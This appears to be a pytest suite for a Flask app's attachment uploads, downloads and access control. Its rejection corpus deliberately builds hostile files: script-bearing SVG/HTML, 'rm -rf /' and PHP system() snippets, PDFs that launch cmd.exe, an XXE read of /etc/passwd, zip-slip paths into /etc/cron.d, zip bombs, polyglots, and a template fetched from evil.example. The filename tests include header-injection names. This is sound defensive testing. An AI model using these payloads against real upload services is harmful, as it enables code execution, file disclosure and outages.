"""Attachments: told by their content, kept in step with the transaction, open to whom their record is open."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from werkzeug.datastructures import FileStorage

from core.cities.models import CityPlugin
from core.database import db
from core.files import store
from core.files.models import Attachment
from core.files.names import clean_file_name
from core.files.services import (
    UploadRefused,
    attachments_of,
    remove_attachment,
    save_upload,
    sweep_orphans,
)
from core.permissions import Role
from core.registry import plugin_registry
from core.tenancy import current_city_id
from core.testing.app import Somebody, World
from core.values import Link, Ref

REF = Ref("activities", "activity", "a" * 16)

# -- Files, made here ------------------------------------------------------------------------------------


def png(width: int = 2, height: int = 2, tail: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    rows = b"".join(b"\0" + b"\xff\0\0" * width for _row in range(min(height, 4)))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
        + tail
    )


def jpeg(width: int = 2, height: int = 2, extra: bytes = b"", tail: bytes = b"") -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\1\1\0\0\1\0\1\0\0"
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\1\x11\0"
    return (
        b"\xff\xd8"
        + app0
        + extra
        + frame
        + b"\xff\xda\0\x08\1\1\0\0\x3f\0"
        + b"\x12" * 20
        + b"\xff\xd9"
        + tail
    )


def gif(width: int = 2, height: int = 2, tail: bytes = b";") -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HH", width, height)
        + b"\x00\x00\x00"
        + b"\x2c"
        + b"\0" * 9
        + b"\2\1\0\0"
        + tail
    )


def webp(width: int = 2, height: int = 2) -> bytes:
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0"
    body += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", len(body)) + body


def pdf(inside: bytes = b"", end: bytes = b"%%EOF\n") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog" + inside + b">>endobj\ntrailer<</Root 1 0 R>>\n" + end
    )


def archive(members: dict[str, bytes], stored: tuple[str, ...] = ()) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in members.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            # With a time of its own the same file would be another one two seconds later.
            made.writestr(zipfile.ZipInfo(name), data, compress_type=kind)
    return target.getvalue()


MAIN = {
    "docx": ("wordprocessingml.document", "word/document.xml"),
    "xlsx": ("spreadsheetml.sheet", "xl/workbook.xml"),
    "pptx": ("presentationml.presentation", "ppt/presentation.xml"),
}


def office(ending: str, more: dict[str, bytes] | None = None, types: str = "") -> bytes:
    kind, part = MAIN[ending]
    content_types = (
        '<?xml version="1.0"?><Types><Override PartName="/' + part + '" ContentType="'
        f'application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>{types}</Types>'
    )
    members = {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": b"<Relationships/>",
        part: b"<document>text</document>",
    }
    return archive(members | (more or {}))


def opendocument(ending: str, more: dict[str, bytes] | None = None) -> bytes:
    kind = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}[ending]
    members = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
        "content.xml": b"<office:document-content/>",
        "META-INF/manifest.xml": b"<manifest:manifest/>",
    }
    return archive(members | (more or {}), stored=("mimetype",))


def encrypted(data: bytes) -> bytes:
    """The same archive, saying of each member that it is encrypted."""
    changed = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(signature)
        while at != -1:
            changed[at + offset] |= 1
            at = changed.find(signature, at + 4)
    return bytes(changed)


def with_link(ending: str) -> bytes:
    target = io.BytesIO(office(ending))
    with zipfile.ZipFile(target, "a") as made:
        link = zipfile.ZipInfo("word/media/link")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return target.getvalue()


def lying_size() -> bytes:
    """An archive whose directory says that a member is small while it unpacks to much."""
    data = bytearray(office("docx", {"word/big.bin": b"\0" * 3_000_000}))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        while at != -1:
            if struct.unpack("<I", data[at + offset : at + offset + 4])[0] == 3_000_000:
                data[at + offset : at + offset + 4] = struct.pack("<I", 1000)
            at = data.find(signature, at + 4)
    return bytes(data)


def two_of_one_name() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made:
        made.writestr("[Content_Types].xml", b"<Types/>")
        with pytest.warns(UserWarning, match="Duplicate name"):
            made.writestr("[Content_Types].xml", b"<Types/>")
    return target.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"
EXE = b"MZ\x90\0\3\0\0\0" + b"\0" * 60 + b"PE\0\0"
EXTERNAL = (
    b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing": ("a.pdf", lambda: b""),
    "svg": ("a.svg", lambda: SVG),
    "svg called png": ("a.png", lambda: SVG),
    "svg called txt": ("a.txt", lambda: SVG),
    "html": ("a.html", lambda: HTML),
    "html called jpg": ("a.jpg", lambda: HTML),
    "html called txt": ("a.txt", lambda: HTML),
    "html after a mark and space": ("a.csv", lambda: b"\xef\xbb\xbf \n" + HTML),
    "xml called txt": ("a.txt", lambda: b'<?xml version="1.0"?><x/>'),
    "script called txt": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "php called txt": ("a.txt", lambda: b"hello <?php system('x'); ?>"),
    "javascript": ("a.js", lambda: b"alert(1)"),
    "windows program": ("a.exe", lambda: EXE),
    "windows program called pdf": ("a.pdf", lambda: EXE),
    "windows program called txt": ("a.txt", lambda: EXE),
    "linux program called docx": ("a.docx", lambda: b"\x7fELF" + b"\0" * 100),
    "no ending": ("README", lambda: b"text"),
    "double ending": ("a.pdf.exe", pdf),
    "turned name": ("a\u202etxt.exe", lambda: b"text"),
    "bytes called txt": ("a.txt", lambda: bytes(range(256))),
    "png called pdf": ("a.pdf", png),
    "pdf called png": ("a.png", pdf),
    "docx called xlsx": ("a.xlsx", lambda: office("docx")),
    "plain zip": ("a.zip", lambda: archive({"a.txt": b"x"})),
    "plain zip called docx": ("a.docx", lambda: archive({"a.txt": b"x"})),
    "huge picture": ("a.png", lambda: png(60_000, 60_000)),
    "huge gif": ("a.gif", lambda: gif(60_000, 60_000)),
    "huge jpeg": ("a.jpg", lambda: jpeg(60_000, 60_000)),
    "huge webp": ("a.webp", lambda: webp(16_000_000, 16_000_000)),
    "cut png": ("a.png", lambda: png()[:30]),
    "cut jpeg": ("a.jpg", lambda: jpeg()[:30]),
    "picture that is also a page": ("a.jpg", lambda: jpeg(tail=b"<script>alert(1)</script>")),
    "picture that is also an archive": ("a.jpg", lambda: jpeg(tail=archive({"a.class": b"x"}))),
    "png that is also an archive": ("a.png", lambda: png(tail=archive({"a": b"x"}))),
    "gif that is also a script": ("a.gif", lambda: b"GIF89a/*" + b"\0" * 8 + b"*/=1;alert(1)"),
    "pdf that is also an archive": ("a.pdf", lambda: pdf() + archive({"a": b"x"}) + b"%%EOF"),
    "pdf without an end": ("a.pdf", lambda: pdf(end=b"")),
    "pdf with a script": ("a.pdf", lambda: pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    "pdf that starts a program": ("a.pdf", lambda: pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    "locked pdf": ("a.pdf", lambda: pdf(b"/Encrypt 5 0 R")),
    "page before a pdf": ("a.pdf", lambda: HTML + pdf()),
    "old word": ("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "doc": ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "docm": ("a.docm", lambda: office("docx")),
    "macro in a docx": ("a.docx", lambda: office("docx", {"word/vbaProject.bin": b"x"})),
    "macro type in an xlsx": (
        "a.xlsx",
        lambda: office("xlsx", types='<Default ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'),
    ),
    "old macro sheet": ("a.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "active control": ("a.docx", lambda: office("docx", {"word/activeX/activeX1.xml": b"<x/>"})),
    "macro in an odt": ("a.odt", lambda: opendocument("odt", {"Basic/Standard/Module1.xml": b"<x/>"})),
    "script in an ods": ("a.ods", lambda: opendocument("ods", {"Scripts/python/a.py": b"x"})),
    "program in a docx": ("a.docx", lambda: office("docx", {"word/media/image1.png": EXE})),
    "program by name in a pptx": ("a.pptx", lambda: office("pptx", {"ppt/embeddings/a.exe": b"x"})),
    "fetches a template": ("a.docx", lambda: office("docx", {"word/_rels/settings.xml.rels": EXTERNAL})),
    "entities": (
        "a.xlsx",
        lambda: office("xlsx", {"xl/a.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}),
    ),
    "locked odt": (
        "a.odt",
        lambda: opendocument("odt", {"META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
    ),
    "locked archive": ("a.docx", lambda: encrypted(office("docx"))),
    "way out of the folder": ("a.docx", lambda: office("docx", {"../../../etc/cron.d/x": b"x"})),
    "absolute path": ("a.docx", lambda: office("docx", {"/etc/cron.d/x": b"x"})),
    "windows path": ("a.docx", lambda: office("docx", {"..\\..\\x": b"x"})),
    "symbolic link": ("a.docx", lambda: with_link("docx")),
    "bomb": ("a.docx", lambda: office("docx", {"word/a.bin": b"\0" * 9_000_000})),
    "large bomb": ("a.xlsx", lambda: office("xlsx", {f"xl/{n}.bin": b"ab" * 8_000_000 for n in range(9)})),
    "lying bomb": ("a.docx", lying_size),
    "many members": ("a.docx", lambda: office("docx", {f"word/{n}": b"" for n in range(3500)})),
    "two members of one name": ("a.docx", two_of_one_name),
    "cut archive": ("a.docx", lambda: office("docx")[:-30]),
    "damaged archive": ("a.docx", lambda: office("docx").replace(b"\x03\x00", b"\x07\x01", 3)),
    "too large": ("a.txt", lambda: b"x" * (10 * 1024 * 1024 + 1)),
}  # fmt: skip

OPEN = "application/vnd.openxmlformats-officedocument."
WORD = f"{OPEN}wordprocessingml.document"
LINK = b'<Relationship Type="x/hyperlink" Target="https://a.example" TargetMode="External"/>'

TAKEN: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "pdf": ("Записник.pdf", pdf, "application/pdf"),
    "png": ("a.png", png, "image/png"),
    "jpeg": ("a.jpeg", jpeg, "image/jpeg"),
    "jpeg from a phone, with a trailer": ("a.jpg", lambda: jpeg(tail=b"\0" * 50), "image/jpeg"),
    "gif": ("a.gif", gif, "image/gif"),
    "webp": ("a.webp", webp, "image/webp"),
    "docx": ("تقرير.docx", lambda: office("docx"), WORD),
    "docx with a picture": ("a.docx", lambda: office("docx", {"word/media/image1.png": png()}), WORD),
    "docx with a link": (
        "a.docx",
        lambda: office("docx", {"word/_rels/document.xml.rels": LINK}),
        WORD,
    ),
    "xlsx": ("a.xlsx", lambda: office("xlsx"), f"{OPEN}spreadsheetml.sheet"),
    "xlsx with a thousand empty rows": (
        "a.xlsx",
        lambda: office("xlsx", {"xl/worksheets/sheet1.xml": b"<row><c/></row>" * 20_000}),
        f"{OPEN}spreadsheetml.sheet",
    ),
    "pptx": ("a.pptx", lambda: office("pptx"), f"{OPEN}presentationml.presentation"),
    "odt": ("a.odt", lambda: opendocument("odt"), "application/vnd.oasis.opendocument.text"),
    "ods": ("a.ods", lambda: opendocument("ods"), "application/vnd.oasis.opendocument.spreadsheet"),
    "odp": ("a.odp", lambda: opendocument("odp"), "application/vnd.oasis.opendocument.presentation"),
    "txt": ("a.txt", "Здраво\nأهلا\n".encode, "text/plain"),
    "txt of an old program": ("a.txt", lambda: "Élan vital".encode("cp1252"), "text/plain"),
    "txt in utf-16": ("a.txt", lambda: "أهلا".encode("utf-16"), "text/plain"),
    "csv": ("a.csv", lambda: b"a;b\n1;2\n", "text/csv"),
    "csv with less-than": ("a.csv", lambda: b"age;n\n<18;2\n", "text/csv"),
    "md": ("a.md", lambda: b"# Title\n\n* a\n", "text/markdown"),
}  # fmt: skip


def upload(name: str, data: bytes) -> FileStorage:
    return FileStorage(io.BytesIO(data), filename=name)


def stored_files(app: Flask) -> list[Path]:
    return [path for path in (Path(app.instance_path) / "files").rglob("*") if path.is_file()]


@pytest.fixture
def alva(world: World) -> Iterator[World]:
    with world.in_city("alva"):
        yield world


def test_the_corpus_is_as_large_as_promised() -> None:
    assert len(REFUSED) >= 60
    assert len(TAKEN) >= 20


@pytest.mark.one_database
def test_files_that_are_refused(alva: World) -> None:
    wrong = []
    for what, (name, make) in REFUSED.items():
        try:
            save_upload(REF, upload(name, make()), None)
        except UploadRefused as refusal:
            if str(refusal).endswith("."):
                continue
        wrong.append(what)
    assert wrong == []
    assert stored_files(alva.app) == [], "nothing of what was refused stays"


@pytest.mark.one_database
def test_files_that_are_taken(alva: World) -> None:
    for what, (name, make, media_type) in TAKEN.items():
        try:
            taken = save_upload(REF, upload(name, make()), None)
        except UploadRefused as refusal:
            pytest.fail(f"{what}: {refusal}")
        assert taken.media_type == media_type, what
        kept = store.path_of(taken.city_id, taken.stored_as)
        assert kept.read_bytes() == make(), what
        assert kept.stat().st_mode & 0o077 == 0
    db.session.commit()
    assert len(stored_files(alva.app)) == len(TAKEN)


def test_a_picture_leaves_under_its_own_ending(alva: World) -> None:
    assert save_upload(REF, upload("photo.jpg", png()), None).name == "photo.png"
    assert save_upload(REF, upload("photo.JPEG", jpeg()), None).name == "photo.JPEG"


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("a.pdf", "a.pdf"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\x\\a.pdf", "a.pdf"),
        ("annual\u202efdp.exe", "annualfdp.exe"),
        ("a\r\nSet-Cookie: x.pdf", "a__Set-Cookie_ x.pdf"),
        ('a"b;c.pdf', "a_b;c.pdf"),
        ("CON.txt", "_CON.txt"),
        ("  .. ", "file"),
        (None, "file"),
        ("", "file"),
        ("تقرير سنوي.docx", "تقرير سنوي.docx"),
        ("a\x00.pdf", "a_.pdf"),
        ("\udcff.pdf", "_.pdf"),
        ("e\u0301.pdf", "é.pdf"),
        ("x" * 500 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_file_names(raw: str | None, clean: str) -> None:
    assert clean_file_name(raw) == clean


def test_a_rolled_back_upload_leaves_no_file(alva: World) -> None:
    save_upload(REF, upload("a.pdf", pdf()), None)
    assert len(stored_files(alva.app)) == 1
    db.session.rollback()
    assert stored_files(alva.app) == []


def test_an_upload_whose_session_just_ends_leaves_no_file(alva: World) -> None:
    save_upload(REF, upload("a.pdf", pdf()), None)
    db.session.remove()
    assert stored_files(alva.app) == []


def test_a_savepoint_in_between_changes_nothing(alva: World) -> None:
    save_upload(REF, upload("a.pdf", pdf()), None)
    with db.session.begin_nested():
        pass
    assert len(stored_files(alva.app)) == 1
    db.session.rollback()
    assert stored_files(alva.app) == []


def test_a_removed_attachment_goes_when_that_is_committed(alva: World) -> None:
    taken = save_upload(REF, upload("a.pdf", pdf()), None)
    db.session.commit()
    remove_attachment(taken)
    assert len(stored_files(alva.app)) == 1
    db.session.rollback()
    assert len(stored_files(alva.app)) == 1
    (taken,) = attachments_of(REF)
    remove_attachment(taken)
    db.session.commit()
    assert stored_files(alva.app) == []
    assert attachments_of(REF) == []


def test_the_city_has_its_quota(alva: World) -> None:
    alva.app.config["FILES_QUOTA_MEGABYTES"] = 1
    save_upload(REF, upload("a.txt", b"x" * 700_000), None)
    with pytest.raises(UploadRefused, match="full"):
        save_upload(REF, upload("b.txt", b"x" * 700_000), None)


def test_the_sweep_takes_old_files_without_a_row_only(alva: World) -> None:
    import os

    kept = save_upload(REF, upload("a.pdf", pdf()), None)
    db.session.commit()
    city_id = current_city_id()
    orphan = store.path_of(city_id, "f" * 32)
    young = store.path_of(city_id, "e" * 32)
    for path in (orphan, young):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"x")
    kept_path = store.path_of(kept.city_id, kept.stored_as)
    for path in (orphan, kept_path):
        os.utime(path, (1, 1))
    assert sweep_orphans() == 1
    assert not orphan.exists()
    assert young.exists()
    assert kept_path.exists()


# -- Who may fetch one -----------------------------------------------------------------------------------


@pytest.fixture
def attached(world: World, monkeypatch: pytest.MonkeyPatch) -> tuple[World, str]:
    """An attachment in alva on a record that members may see, and no observer."""
    from collections.abc import Mapping, Sequence

    from core.registry import CityHooks
    from core.values import Viewer

    def read(
        self: CityHooks, hook: str, *, only: str | None = None, **arguments: object
    ) -> Iterator[object]:
        if hook != "describe" or only not in self.enabled:
            return
        refs: Sequence[Ref] = arguments["refs"]  # type: ignore[assignment]
        viewer: Viewer = arguments["viewer"]  # type: ignore[assignment]
        answer: Mapping[Ref, Link] = {
            ref: Link("A record", "/x") for ref in refs if Role.MEMBER.value in viewer.roles
        }
        yield answer

    monkeypatch.setattr(CityHooks, "read", read)
    with world.in_city("alva"):
        assert "activities" in plugin_registry().plugins
        taken = save_upload(REF, upload('Наслов; "a" تقرير.pdf', pdf()), None)
        db.session.commit()
        identifier = taken.id
    return world, identifier


def test_a_download_is_a_file_and_never_a_page(
    attached: tuple[World, str], sign_in: Callable[[Somebody], FlaskClient]
) -> None:
    world, identifier = attached
    answer = sign_in(world.person("alva", Role.MEMBER)).get(f"/alva/files/{identifier}")
    assert answer.status_code == 200
    assert answer.data == pdf()
    assert answer.mimetype == "application/pdf"
    disposition = answer.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''" in disposition
    assert "\n" not in disposition
    assert answer.headers["Content-Security-Policy"].startswith("sandbox")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"
    answer.close()


@pytest.mark.parametrize(
    ("city", "role", "path"),
    [
        ("alva", Role.OBSERVER, "/alva/files/{}"),
        ("bruma", Role.MEMBER, "/alva/files/{}"),
        ("bruma", Role.MEMBER, "/bruma/files/{}"),
        ("alva", Role.MEMBER, "/alva/files/aaaaaaaaaaaaaaaa"),
        ("alva", Role.MEMBER, "/alva/files/..%2f..%2fsecrets.json"),
        ("alva", Role.MEMBER, "/alva/files/{}x"),
    ],
)
def test_to_everybody_else_it_is_not_there(
    attached: tuple[World, str],
    sign_in: Callable[[Somebody], FlaskClient],
    city: str,
    role: Role,
    path: str,
) -> None:
    world, identifier = attached
    answer = sign_in(world.person(city, role)).get(path.format(identifier))
    assert answer.status_code == 404


def test_signed_out_one_is_asked_to_sign_in(attached: tuple[World, str]) -> None:
    world, identifier = attached
    answer = world.app.test_client().get(f"/alva/files/{identifier}")
    assert answer.status_code in {302, 303}
    assert b"%PDF" not in answer.data


def test_with_the_plugin_off_it_is_gone(
    attached: tuple[World, str], sign_in: Callable[[Somebody], FlaskClient]
) -> None:
    world, identifier = attached
    with world.in_city("alva"):
        db.session.scalars(
            select(CityPlugin).where(CityPlugin.name == "activities")
        ).one().enabled = False
        db.session.commit()
    answer = sign_in(world.person("alva", Role.MEMBER)).get(f"/alva/files/{identifier}")
    assert answer.status_code == 404


def test_a_lost_file_is_no_fault_of_the_page(
    attached: tuple[World, str], sign_in: Callable[[Somebody], FlaskClient]
) -> None:
    world, identifier = attached
    for path in stored_files(world.app):
        path.unlink()
    answer = sign_in(world.person("alva", Role.MEMBER)).get(f"/alva/files/{identifier}")
    assert answer.status_code == 404


def test_attachments_of_another_city_are_not_listed(attached: tuple[World, str]) -> None:
    world, _identifier = attached
    with world.in_city("bruma"):
        assert attachments_of(REF) == []
        assert db.session.scalars(select(Attachment)).all() == []
